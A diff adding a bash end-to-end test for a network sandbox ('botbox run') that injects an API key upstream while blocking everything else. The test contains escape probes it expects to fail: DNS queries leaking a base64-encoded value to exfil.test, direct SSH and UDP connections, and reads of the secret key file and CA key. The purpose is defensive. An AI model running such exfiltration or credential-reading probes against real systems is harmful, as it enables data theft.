@@ -1,0 +1,133 @@
+#!/usr/bin/env bash
+# `botbox run -- CMD` (issue 8), started inside a test-made "host"
+# namespace: CMD (uid 1000) reaches the allowed host with the key injected
+# (and never sees the key), and nothing else: denied hosts, direct
+# connections, UDP, DNS for other names, IPv4 and IPv6. Exit status,
+# stdin, signals, hiding of secrets and CA key, and cleanup.
+. "$(dirname "$0")/../lib.sh"
+
+run_world
+run() { timeout 30 "${RUN[@]}" "$@"; }
+curl_in() { run curl -sS --max-time 5 "$@"; }
+
+# ---- the allowed call, key injected, over HTTPS interception ----
+out=$(run sh -c 'env; curl -sS --max-time 5 https://api.test/echo' 2>&1)
+if $PY - "$out" "$SECRET" <<'PY'; then
+import json, sys
+out, secret = sys.argv[1], sys.argv[2]
+body = json.loads(out[out.index('{"method"'):].splitlines()[0])
+auth = [v for k, v in body["headers"] if k.lower() == "authorization"]
+assert auth == ["Bearer " + secret], auth
+env = out[:out.index('{"method"')]
+assert secret not in env, "the key is in CMD's environment"
+for var in ("SSL_CERT_FILE", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS",
+            "GIT_SSL_CAINFO", "CARGO_HTTP_CAINFO", "DENO_CERT"):
+    assert f"\n{var}=/run/botbox-run/" in "\n" + env, var + " not set"
+PY
+    pass "curl https://api.test/echo: 200, key injected upstream, absent from CMD's env, CA vars set"
+else
+    fail "curl https://api.test/echo with the key injected" "$out"
+fi
+expect "plain http://api.test/ is steered too (injected over verified TLS)" "Bearer $SECRET" \
+    curl_in http://api.test/echo
+expect "python3 urllib trusts the CA through the run's variables" "Bearer $SECRET" \
+    run $PY -c 'import urllib.request
+print(urllib.request.urlopen("https://api.test/echo", timeout=5).read().decode())'
+expect "IPv6: curl -6 https://api.test/echo works the same" "Bearer $SECRET" \
+    curl_in -6 https://api.test/echo
+check "... audited as coming from the sandbox's IPv6 address" \
+    grep -q '"event":"http".*"src":"\[fd00:201:0:8' "$RUN_AUDIT"
+
+# ---- everything else is refused ----
+expect "a name no rule allows does not even resolve" "Could not resolve host" \
+    run sh -c 'curl -sS --max-time 5 https://other.test/; exit 0'
+expect "a host no rule allows, reached by its address: 403" "403" \
+    curl_in -o /dev/null -w '%{http_code}' --resolve "other.test:443:$INET4" https://other.test/
+before=$(grep -c '"event": "accept"' "$E2E_TMP/upstream.log")
+refute "direct HTTPS to the upstream's IP (--noproxy) fails" \
+    curl_in --noproxy '*' -o /dev/null "https://$INET4/echo"
+refute "... and over IPv6" curl_in --noproxy '*' -o /dev/null "https://[$INET6]/echo"
+check "... the upstream accepted no connection for them" \
+    test "$(grep -c '"event": "accept"' "$E2E_TMP/upstream.log")" -eq "$before"
+refute "direct TCP to port 22 fails" run $PROBE connect $INET4 22 --timeout 2
+refute "... and over IPv6" run $PROBE connect $INET6 22 --timeout 2
+refute "UDP fails" run $PROBE udp $INET4 5000 --timeout 1
+refute "... and over IPv6" run $PROBE udp $INET6 5000 --timeout 1
+check "nothing reached port 22 or the UDP listener" \
+    test "$(count ssh)" -eq 0 -a "$(count udp)" -eq 0
+expect "DNS for a name no rule allows: NXDOMAIN" "status: NXDOMAIN" \
+    run dig +time=2 +tries=1 c2VjcmV0.exfil.test
+expect "... also asked of another resolver (redirected to the gateway)" "status: NXDOMAIN" \
+    run dig +time=2 +tries=1 @$INET4 c2VjcmV0.exfil.test
+check "... which never reached dnsmasq" bash -c "! grep -q exfil $E2E_TMP/dnsmasq.log"
+expect "DNS for the allowed name answers, AAAA too" "$INET6" run dig +short AAAA api.test
+check "the audit file has the allowed request, the denial and the dropped flows" bash -c "
+    grep -q '\"event\":\"http\".*\"decision\":\"allow\".*\"host\":\"api.test\"' $RUN_AUDIT &&
+    grep -q '\"decision\":\"deny\".*\"host\":\"other.test\"' $RUN_AUDIT &&
+    grep -q '\"event\":\"flow\".*\"dst\":\"$INET4:22\"' $RUN_AUDIT &&
+    grep -q '\"event\":\"dns\".*exfil.test' $RUN_AUDIT"
+check "no secret in the audit file" bash -c "! grep -q '$SECRET' $RUN_AUDIT"
+
+# ---- what CMD cannot touch ----
+refute "CMD cannot read the secret (the directory is hidden)" run cat "$E2E_TMP/secrets/api-key"
+expect_status "... the secrets directory is closed" 2 "Permission denied" \
+    run ls "$E2E_TMP/secrets"
+out=$(run cat "$CA/ca.key" 2>&1)
+check "CMD cannot read the CA key" test -z "$out" -o -n "$(grep -i denied <<<"$out")"
+refute "nft list ruleset fails for CMD" run nft list ruleset
+refute "CMD cannot add a route" run ip route add 10.201.99.0/24 dev eth0
+refute "the gateway's metrics are out of reach (its link address)" \
+    bash -c "${RUN[*]} sh -c 'curl -sS --max-time 2 http://\$(awk \"/^nameserver/{print \\\$2; exit}\" /etc/resolv.conf):9090/metrics'"
+refute "... and on loopback" curl_in --max-time 2 http://127.0.0.1:9090/metrics
+expect "CMD runs as the user asked for, with no capabilities" "CapEff:	0000000000000000" \
+    run grep CapEff /proc/self/status
+refute "CMD cannot regain root (no_new_privs)" run grep -q 'NoNewPrivs:	0' /proc/self/status
+
+# ---- exit status, stdio, errors ----
+expect_status "sh -c 'exit 7' exits 7" 7 "" run sh -c 'exit 7'
+expect_status "a CMD killed by SIGKILL: 137" 137 "" run sh -c 'kill -9 $$'
+expect_status "a CMD that does not exist: 127" 127 "no-such-command" run no-such-command
+check "stdin reaches CMD, stdout comes back" \
+    bash -c "test \"\$(echo through | ${RUN[*]} cat)\" = through"
+expect_status "root is refused as CMD's user" 125 "refusing to run CMD as root" \
+    ip netns exec "${NS[host]}" "$BIN" run --config "$E2E_TMP/run.yaml" --user root -- true
+expect_status "a public range is refused" 125 "not a private range" \
+    ip netns exec "${NS[host]}" "$BIN" run --config "$E2E_TMP/run.yaml" --net4 8.8.0.0/16 -- true
+check "after all of these, nothing is left behind" test -z "$(run_leftovers)"
+
+# ---- signals ----
+bg host sigrun "${RUN[@]}" sh -c 'echo started; trap "echo got INT; exit 3" INT; sleep 30 & wait'
+runpid=$BG_PID
+wait_for 10 grep -q started "$E2E_TMP/sigrun.out"
+check "while it runs, its namespaces and link exist" bash -c \
+    "ip netns list | grep -q botbox-run-$runpid && ip -n ${NS[host]} link show bbr$runpid"
+kill -INT "$runpid"
+wait "$runpid"
+rc=$?
+check "SIGINT to botbox run reaches CMD, whose status is returned (3)" test "$rc" -eq 3
+check "... CMD saw it" grep -q "got INT" "$E2E_TMP/sigrun.out"
+check "... and nothing is left" test -z "$(run_leftovers)"
+
+bg host killrun "${RUN[@]}" sh -c 'echo started; sleep 30 & sleep 30 & wait'
+runpid=$BG_PID
+wait_for 10 grep -q started "$E2E_TMP/killrun.out"
+kill -TERM "$runpid"
+wait "$runpid"
+rc=$?
+check "SIGTERM to botbox run ends CMD (143)" test "$rc" -eq 143
+check "... its background jobs too" test -z "$(pgrep -f 'sleep 30')"
+check "... and nothing is left" test -z "$(run_leftovers)"
+
+# ---- two runs at once ----
+run sh -c 'sleep 1; curl -sS --max-time 5 https://api.test/echo' >"$E2E_TMP/one.out" 2>&1 &
+one=$!
+run sh -c 'sleep 1; curl -sS --max-time 5 https://api.test/echo' >"$E2E_TMP/two.out" 2>&1 &
+two=$!
+wait $one
+rc1=$?
+wait $two
+rc2=$?
+check "two runs at once both succeed" bash -c "test $rc1 -eq 0 -a $rc2 -eq 0 &&
+    grep -q 'Bearer $SECRET' $E2E_TMP/one.out && grep -q 'Bearer $SECRET' $E2E_TMP/two.out"
+check "... and leave nothing" test -z "$(run_leftovers)"
+finish
